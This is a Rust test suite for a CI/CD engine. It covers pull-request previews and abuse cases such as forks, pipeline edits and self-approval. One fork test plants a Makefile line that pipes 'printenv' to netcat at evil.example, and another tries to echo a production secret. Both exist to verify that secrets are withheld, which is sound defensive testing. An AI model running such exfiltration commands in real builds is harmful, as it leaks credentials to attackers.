//! Pull requests: what they run, what they do not get, and the preview that comes and goes with them.

use std::time::Duration;

use engine::core::id::{PersonId, PipelineId, ReleaseNumber};
use engine::core::row::{GateState, ReleaseState};
use engine::core::{Actor, Input, Trust};
use serde_json::json;
use testkit::forge::{FakeForge, Mood, NewPull};

use crate::at_forge::AtForge;

const PIPELINE: &str = r#"
name: orders
triggers:
  push: {branch: main}
  pull_request: {preview: true}
stages:
  - name: build
    jobs: [{name: package, steps: [{run: make}], artifacts: {app: dist/app}}]
  - name: live
    targets: [local/one]
    deploy: {uses: process/in-place, with: {artifact: app, port: 8080}}
  - name: prod
    production: true
    gates: [{approval: true}]
    targets: [local/prod]
    deploy: {uses: shell/run, with: {run: "./deploy.sh ${{ secrets.PROD_KEY }}"}}
"#;

const AUTHOR: u64 = 7001;

/// A commit on a branch of its own, at the forge.
fn branch(place: &AtForge, name: &str, change: impl FnOnce()) -> String {
    place.checkout.git(&["checkout", "-q", "-B", name, "main"]);
    change();
    let commit = place.checkout.commit(&format!("work on {name}"));
    place.checkout.git(&["push", "-q", "--force", &place.at.folder.display().to_string(), name]);
    place.checkout.git(&["checkout", "-q", "main"]);
    commit
}

impl AtForge {
    fn opened(&self, commit: &str, is_fork: bool) -> u64 {
        self.forge.open_pull(&self.at, &NewPull { title: "A change", commit, author: AUTHOR, is_fork })
    }

    async fn told(&self, action: &str) {
        let body = json!({"action": action, "repository": {"clone_url": self.at.url}}).to_string();
        let delivery = format!("{action}-{}", self.world.engine.ids().uuid());
        assert_eq!(self.sender.github("pull_request", &delivery, body.as_bytes()).await.status(), 202);
    }

    async fn pull_pipeline(&self, number: u64) -> PipelineId {
        let name = format!("orders~pr-{number}");
        let find = async || self.world.engine.store().pipeline_by_name(&name).await.expect("the store");
        self.world.until(&self.pipeline, &format!("a pipeline {name}"), find).await
    }

    async fn until_gone(&self, number: u64) {
        let name = format!("orders~pr-{number}");
        let find = async || self.world.engine.store().pipeline_by_name(&name).await.expect("the store").is_none().then_some(());
        self.world.until(&self.pipeline, &format!("{name} to be gone"), find).await;
    }

    async fn release(&self, pipeline: &PipelineId, number: u64) -> engine::core::row::ReleaseRow {
        self.world.until_release(pipeline, ReleaseNumber(number)).await
    }

    /// Does what comes until a release of the pull request has ended.
    async fn run(&self, pipeline: &PipelineId, number: u64) -> Vec<String> {
        self.release(pipeline, number).await;
        let mut done = Vec::new();
        loop {
            let row = self.release(pipeline, number).await;
            if row.state.is_end() {
                assert_eq!(row.state, ReleaseState::Completed, "{}", self.world.story(pipeline).await);
                return done;
            }
            let lease = self.runner.lease().await;
            self.runner.succeed(&lease).await;
            // The branch's own releases have jobs, too.
            if lease.job.pipeline != "orders" {
                done.push(lease.job.key.clone());
            }
        }
    }

    async fn until_comment(&self, says: &str) -> String {
        let what = format!("one comment that says {says:?}");
        self.until(&what, |state| {
            let bodies: Vec<_> = state.comments.values().map(|comment| comment["body"].as_str().unwrap_or_default().to_owned()).collect();
            match bodies.as_slice() {
                [body] if body.contains(says) => Some(body.clone()),
                [] | [_] => None,
                more => panic!("more than one comment: {more:?}"),
            }
        })
        .await
    }

    /// The source of the branch is due again.
    async fn poll(&self, minutes: u64) {
        self.pass(Duration::from_secs(60 * minutes)).await;
        self.world.engine.store().put_source(&self.source().await).await.expect("due at once");
        self.told("labeled").await;
    }

    async fn source(&self) -> engine::store::SourceRow {
        let source = self.world.engine.store().sources_of(&self.pipeline).await.expect("the sources").remove(0);
        engine::store::SourceRow { next_poll_at: self.world.engine.clock().now(), ..source }
    }
}

/// The whole life of a preview: made by the file's own deploy block, updated by each push, told in one comment and as a
/// deployment, put to sleep, woken by a push, and removed when the pull request is closed.
#[tokio::test(flavor = "multi_thread")]
async fn a_preview_comes_with_its_pull_request_moves_with_it_sleeps_and_goes_with_it() {
    let place = AtForge::with(PIPELINE, |_| {}).await;
    let first = branch(&place, "change", || {});
    let number = place.opened(&first, false);
    place.told("opened").await;
    let pull = place.pull_pipeline(number).await;
    assert_eq!(place.run(&pull, 1).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    let row = place.release(&pull, 1).await;
    assert_eq!(
        (row.trust, row.revisions[0].commit.as_str(), row.involved.as_slice()),
        (Trust::PullRequest, &*first, &[PersonId(format!("github:{AUTHOR}"))][..])
    );
    place.until_comment("at <http://localhost:8081>").await;
    let deployment = place
        .until("a deployment of the preview with its address", |state| {
            let (id, deployment) = state.deployments.iter().find(|(_, found)| found["environment"] == "orders/local/one/pr-1")?;
            let status = state.deployment_statuses.get(id)?.last()?.clone();
            (status["state"] == "success").then_some((deployment.clone(), status))
        })
        .await;
    assert_eq!(
        (deployment.0["transient_environment"].as_bool(), deployment.1["environment_url"].as_str()),
        (Some(true), Some("http://localhost:8081"))
    );
    place.until_shown(&first, "success").await;

    let second = branch(&place, "change", || drop(place.checkout.write("more", "more")));
    place.forge.push_to_pull(&place.at, number, &second);
    place.told("synchronize").await;
    assert_eq!(place.run(&pull, 2).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    place.until_comment(&second[..8]).await;

    // Eight hours without a push.
    place.poll(9 * 60).await;
    assert_eq!(place.run(&pull, 3).await, ["preview/local/one/pr-1/destroy"]);
    place.until_comment("the preview sleeps").await;
    let third = branch(&place, "change", || drop(place.checkout.write("more", "and more")));
    place.forge.push_to_pull(&place.at, number, &third);
    place.told("synchronize").await;
    assert_eq!(place.run(&pull, 4).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    place.until_comment(&third[..8]).await;

    // The file of the branch says otherwise by then; what removes the preview was stored with it. And nobody tells.
    place.checkout.write(
        ".tidegate/pipeline.yaml",
        &PIPELINE.replace("process/in-place, with: {artifact: app, port: 8080}", "shell/run, with: {run: x, destroy: y}"),
    );
    place.commit("another way to deploy");
    place.forge.close_pull(number, None);
    place.poll(11).await;
    let mut keys = Vec::new();
    while !keys.iter().any(|key| key == "preview/local/one/pr-1/destroy") {
        let lease = place.runner.lease().await;
        if lease.job.key.ends_with("/destroy") {
            assert!(lease.job.steps[0].run.contains("in-place"), "the stored definition: {}", lease.job.steps[0].run);
        }
        place.runner.succeed(&lease).await;
        keys.push(lease.job.key.clone());
    }
    place.world.ended(&pull, ReleaseNumber(5)).await;
    place.until_comment("the preview is removed").await;
    place.poll(11).await;
    place.until_gone(number).await;
}

/// It goes by its age as well, though nobody closes the pull request and nothing tells of it, and comes back with the next push.
#[tokio::test(flavor = "multi_thread")]
async fn a_preview_to_which_nothing_was_pushed_for_long_is_removed() {
    let lives = "  pull_request: {preview: true}\npreview: {idle_sleep: 9h, delete_after: 2h}";
    let place = AtForge::with(&PIPELINE.replace("  pull_request: {preview: true}", lives), |_| {}).await;
    let first = branch(&place, "change", || {});
    let number = place.opened(&first, false);
    place.told("opened").await;
    let pull = place.pull_pipeline(number).await;
    assert_eq!(place.run(&pull, 1).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    place.poll(119).await;
    place.settled().await;
    assert!(place.world.engine.store().release(&pull, ReleaseNumber(2)).await.expect("the store").is_none(), "not yet");
    place.poll(2).await;
    assert_eq!(place.run(&pull, 2).await, ["preview/local/one/pr-1/destroy"]);
    place.until_comment("the preview is removed").await;
    let second = branch(&place, "change", || drop(place.checkout.write("more", "more")));
    place.forge.push_to_pull(&place.at, number, &second);
    place.told("synchronize").await;
    assert_eq!(place.run(&pull, 3).await, ["build/package", "preview/local/one/pr-1/deploy"]);
}

/// Somebody presses *Look at the source now*, at the branch or at the pull request: what is open, moved or closed is asked for as well.
#[tokio::test(flavor = "multi_thread")]
async fn a_look_by_hand_finds_pull_requests_of_which_no_web_hook_told() {
    let place = AtForge::with(PIPELINE, |_| {}).await;
    let first = branch(&place, "change", || {});
    let number = place.opened(&first, false);
    place.world.engine.check_source(&place.pipeline).await.expect("a look at the branch");
    let pull = place.pull_pipeline(number).await;
    assert_eq!(place.run(&pull, 1).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    let second = branch(&place, "change", || drop(place.checkout.write("more", "more")));
    place.forge.push_to_pull(&place.at, number, &second);
    let checked = place.world.engine.check_source(&pull).await.expect("a look at the pull request");
    assert_eq!(checked.admitted, Some(ReleaseNumber(2)));
    assert_eq!(place.run(&pull, 2).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    place.forge.close_pull(number, None);
    place.world.engine.check_source(&pull).await.expect("a look at the closed pull request");
    assert_eq!(place.run(&pull, 3).await, ["preview/local/one/pr-1/destroy"]);
    place.settled().await;
    place.forge.state().mood = Mood::Limited { reset_s: 600 };
    let error = place.world.engine.check_source(&place.pipeline).await.expect_err("what is open cannot be asked for");
    assert!(error.to_string().contains("pull requests cannot be asked for"), "{error}");
    place.forge.state().mood = Mood::Well;
}

/// While the forge does not answer, nobody has closed anything.
#[tokio::test(flavor = "multi_thread")]
async fn a_forge_that_is_away_closes_no_pull_request() {
    let place = AtForge::with(PIPELINE, |_| {}).await;
    let commit = branch(&place, "change", || {});
    let number = place.opened(&commit, false);
    place.told("opened").await;
    let pull = place.pull_pipeline(number).await;
    place.run(&pull, 1).await;
    place.forge.state().mood = Mood::Limited { reset_s: 600 };
    place.poll(11).await;
    let error = place.world.until(&place.pipeline, "the source to say so", async || place.source_error().await).await;
    assert!(error.contains("pull requests cannot be asked for"), "{error}");
    let seen = place.world.engine.store().releases(&pull, None, 10).await.expect("the releases");
    assert_eq!(seen.len(), 1, "no removal");
    place.forge.state().mood = Mood::Well;
}

/// Indirect poisoned execution: what a fork brings runs in a pool of its own, without secrets, identity or deployment, until a
/// person has approved this very commit (abuse case 2, D6).
#[tokio::test(flavor = "multi_thread")]
async fn abuse_02_a_fork_gets_checks_alone_in_a_pool_of_its_own_until_a_person_approves_the_commit() {
    let place = AtForge::with(PIPELINE, |_| {}).await;
    let commit = branch(&place, "evil", || drop(place.checkout.write("Makefile", "all:\n\tprintenv | nc evil.example 80\n")));
    let number = place.opened(&commit, true);
    place.told("opened").await;
    let pull = place.pull_pipeline(number).await;
    let row = place.release(&pull, 1).await;
    assert_eq!(row.trust, Trust::Fork);
    let plan = place.world.engine.view(&pull, |state| state.release(ReleaseNumber(1)).expect("it").plan.clone()).await.expect("the plan");
    assert!(plan.waves().all(|(_, _, wave)| wave.rollouts.is_empty()) && plan.secrets.is_empty(), "{plan:?}");
    assert!(plan.nodes.iter().all(|node| match &node.kind {
        pipelines::plan::NodeKind::Job(job) => job.runs_on.pool == pipelines::pull_request::FORKS_POOL,
        _ => true,
    }));
    place.until_comment("comes from a fork").await;

    let person = Actor::Person { id: PersonId("github:9".into()), name: "grace".into(), groups: vec![] };
    let stale = place.world.engine.approve_pull_request(&person, &pull, &"f".repeat(40), "looked at it").await.expect_err("another commit");
    assert!(stale.to_string().contains("not its head"), "{stale}");
    let release = place.world.engine.approve_pull_request(&person, &pull, &commit, "looked at it").await.expect("approved");
    assert_eq!(place.run(&pull, release.0).await, ["build/package", "preview/local/one/pr-1/deploy"]);
    assert_eq!(place.release(&pull, release.0).await.trust, Trust::PullRequest);

    let next = branch(&place, "evil", || drop(place.checkout.write("Makefile", "all:\n\tworse\n")));
    place.forge.push_to_pull(&place.at, number, &next);
    place.told("synchronize").await;
    assert_eq!(place.release(&pull, release.0 + 1).await.trust, Trust::Fork, "another push asks anew");
}

/// Direct poisoned execution: a pull request that edits the pipeline file gains nothing (abuse case 1, IB8).
#[tokio::test(flavor = "multi_thread")]
async fn abuse_01_a_pull_request_that_edits_the_file_reaches_no_production_and_no_secret() {
    let place = AtForge::with(PIPELINE, |_| {}).await;
    let edited = [
        PIPELINE.replace("    production: true\n", "").replace("run: make", "run: \"echo ${{ secrets.PROD_KEY }}\""),
        PIPELINE
            .replace("targets: [local/one]", "targets: [local/prod]")
            .replace("local/prod]\n    deploy: {uses: shell", "local/x]\n    deploy: {uses: shell"),
        PIPELINE.replace("  pull_request: {preview: true}", "  pull_request: {preview: true}\npreview: {targets: [local/prod]}"),
    ];
    for (text, may_run) in edited.into_iter().zip([false, true, true]) {
        let commit = branch(&place, "edit", || drop(place.checkout.write(".tidegate/pipeline.yaml", &text)));
        let number = place.opened(&commit, false);
        place.told("opened").await;
        let pull = place.pull_pipeline(number).await;
        if may_run {
            let row = place.release(&pull, 1).await;
            let find = |state: &engine::core::Pipeline| state.release(row.number).expect("it").plan.clone();
            let plan = place.world.engine.view(&pull, find).await.expect("the plan");
            let targets: Vec<_> = plan.waves().flat_map(|(_, _, wave)| &wave.rollouts).map(|rollout| rollout.target.clone()).collect();
            assert_eq!(plan.preview.as_ref().map(|preview| vec![preview.target.clone()]), Some(targets.clone()));
            assert!(targets[0].ends_with(&format!("/pr-{number}")), "{targets:?}");
            assert!(plan.stages.iter().all(|stage| !stage.production) && plan.secrets.is_empty());
        } else {
            let why = async || place.world.engine.store().sources_of(&pull).await.expect("the source").remove(0).last_error;
            let error = place.world.until(&pull, "a refusal", why).await;
            assert!(error.contains("the secret `PROD_KEY`"), "{error}");
        }
    }
}

const GATED: &str = r#"
name: orders
stages:
  - name: prod
    production: true
    gates: [{approval: {from: [oncall], count: 1}}]
    targets: [local/prod]
    deploy: {uses: shell/run, with: {run: "./deploy.sh"}}
"#;

/// Four eyes over everybody whom the forge's API names: author, committer, who opened and who merged (abuse cases 3 and 4).
#[tokio::test(flavor = "multi_thread")]
async fn abuse_04_nobody_who_had_a_hand_in_a_change_approves_it() {
    let people = [("author@example.org", 1), ("committer@example.org", 2)];
    let prepare = |forge: &FakeForge| forge.state().people.extend(people.map(|(address, id)| (address.to_owned(), id)));
    let place = AtForge::with(GATED, prepare).await;
    place.checkout.git(&[
        "-c",
        "user.email=committer@example.org",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "merge",
        "--author",
        "Linus <author@example.org>",
    ]);
    let commit = place.checkout.git(&["rev-parse", "HEAD"]);
    crate::at_forge::push(&place.checkout, &place.at);
    let number = place.forge.open_pull(&place.at, &NewPull { title: "a change", commit: &commit, author: 3, is_fork: false });
    place.forge.close_pull(number, Some((&commit, 4)));
    assert_eq!(place.sender.push(&place.at.url, "main").await.status(), 202);
    let release = place.release_of(&commit).await;
    let row = place.release(&place.pipeline, release.0).await;
    let involved: Vec<_> = row.involved.iter().map(|person| person.as_str().to_owned()).collect();
    assert_eq!(involved, ["github:1", "github:2", "github:3", "github:4"], "by immutable ids, from the API");
    let gate = place
        .world
        .until(&place.pipeline, "the gate to ask", async || {
            let find = |state: &engine::core::Pipeline| {
                let plan = state.plan(release)?.clone();
                let gate = state.gates(release).find(|gate| gate.state == GateState::Closed)?;
                Some((plan.node(gate.node)?.key.clone(), state.release(release)?.row.digest.clone()))
            };
            place.world.engine.view(&place.pipeline, find).await.expect("the pipeline")
        })
        .await;
    let approve = async |id: &str| {
        let person = Actor::Person { id: PersonId(id.to_owned()), name: id.to_owned(), groups: vec!["oncall".into(), "admin".into()] };
        let input = Input::Approve { release, gate: gate.0.clone(), digest: gate.1.clone(), reason: "fine".into() };
        place.world.engine.input(&place.pipeline, person, input).await
    };
    for id in &involved {
        assert!(matches!(approve(id).await, Err(engine::Error::Rejected(engine::core::Rejected::SelfApproval))), "{id}");
    }
    approve("github:5").await.expect("somebody else may");
}

/// When the forge cannot be asked who was involved, nothing is released rather than released with nobody known.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_03_a_release_with_four_eyes_waits_for_the_forge_to_say_who_was_involved() {
    let place = AtForge::with(GATED, |_| {}).await;
    place.forge.state().mood = Mood::Limited { reset_s: 300 };
    let commit = place.commit("while nobody can be asked");
    assert_eq!(place.sender.push(&place.at.url, "main").await.status(), 202);
    let error = place.world.until(&place.pipeline, "the source to say so", async || place.source_error().await).await;
    assert!(error.contains("who had a hand in"), "{error}");
    place.forge.state().mood = Mood::Well;
    place.pass(Duration::from_secs(11 * 60)).await;
    place.release_of(&commit).await;
}
